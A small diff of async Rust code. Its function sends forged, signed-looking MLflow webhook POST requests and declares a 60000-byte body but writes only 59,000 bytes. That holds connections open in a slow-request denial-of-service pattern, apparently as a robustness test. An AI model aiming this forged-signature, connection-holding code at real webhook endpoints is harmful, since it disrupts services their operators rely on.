@@ -280,7 +280,7 @@ async fn hold(stream: &mut TcpStream, number: usize, path: &str) -> std::io::Res
                 "POST {path} {START}x-mlflow-delivery-id: forged-{number}\r\nx-mlflow-timestamp: {now}\r\nx-mlflow-signature: v1,Zm9yZ2Vk\r\nContent-Length: 60000\r\n\r\n"
             );
             stream.write_all(head.as_bytes()).await?;
-            stream.write_all(&[b' '; 59_000]).await?;
+            stream.write_all(&vec![b' '; 59_000]).await?;
         }
     }
     stream.read_to_end(&mut Vec::new()).await.map(|_| ())
